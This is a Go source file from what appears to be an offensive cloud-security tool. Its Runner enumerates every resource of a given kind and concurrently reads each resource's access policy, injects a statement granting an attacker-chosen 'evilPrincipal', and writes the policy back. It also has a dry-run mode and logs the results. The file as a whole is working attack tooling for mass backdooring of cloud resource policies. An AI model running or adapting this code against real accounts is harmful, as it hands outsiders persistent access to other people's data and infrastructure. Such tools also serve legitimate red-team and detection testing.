package exposure

import (
	"context"

	"github.com/hashicorp/go-hclog"
	"golang.org/x/sync/errgroup"
)

// ResultSink receives every mutation result, e.g. for persistence. Sink
// failures are logged and otherwise ignored; the audit trail is
// best-effort.
type ResultSink interface {
	Record(ctx context.Context, res MutationResult) error
}

// Runner drives read-inject-write pipelines over enumerated resources.
// Each resource's pipeline is independent; a slow or throttled call for
// one resource never stalls the others.
type Runner struct {
	Log     hclog.Logger
	Workers int
	DryRun  bool
	Sink    ResultSink
}

// DefaultWorkers bounds concurrent pipelines when the caller does not
// choose a pool size.
const DefaultWorkers = 8

// ExposeAll enumerates every resource of the catalog's kind and runs the
// pipeline against each. Enumeration failure is the only error; individual
// pipeline failures are reported inside the results.
func (r *Runner) ExposeAll(ctx context.Context, cat Catalog, evilPrincipal, sid string) ([]MutationResult, error) {
	listed, err := cat.Enumerate(ctx)
	if err != nil {
		return nil, err
	}
	targets := make([]string, len(listed))
	for i, l := range listed {
		targets[i] = l.Name
	}
	return r.Expose(ctx, cat, evilPrincipal, sid, targets), nil
}

// Expose runs the pipeline against each named resource of the catalog's
// kind using a bounded worker pool. Results are positionally aligned with
// targets; no ordering guarantee holds between pipelines.
func (r *Runner) Expose(ctx context.Context, cat Catalog, evilPrincipal, sid string, targets []string) []MutationResult {
	workers := r.Workers
	if workers <= 0 {
		workers = DefaultWorkers
	}

	results := make([]MutationResult, len(targets))
	g, ctx := errgroup.WithContext(ctx)
	g.SetLimit(workers)
	for i, name := range targets {
		g.Go(func() error {
			results[i] = r.exposeOne(ctx, cat.Lookup(name), evilPrincipal, sid)
			return nil
		})
	}
	// Pipeline closures always return nil; failures live in the results.
	_ = g.Wait()
	return results
}

// exposeOne performs one resource's strictly sequential read-inject-write.
func (r *Runner) exposeOne(ctx context.Context, res Resource, evilPrincipal, sid string) MutationResult {
	read := res.GetPolicy(ctx)
	if !read.Success() && r.Log != nil {
		r.Log.Debug("no readable policy, starting from empty baseline",
			"arn", res.ARN())
	}

	evil := res.Backdoor(read.Policy, evilPrincipal, sid)

	var result MutationResult
	if r.DryRun {
		result = res.DryRunResult(evil)
	} else {
		result = res.SetPolicy(ctx, evil)
	}
	result.EvilPrincipal = evilPrincipal

	if r.Sink != nil {
		if err := r.Sink.Record(ctx, result); err != nil && r.Log != nil {
			r.Log.Error("recording mutation result", "arn", res.ARN(), "error", err)
		}
	}
	return result
}
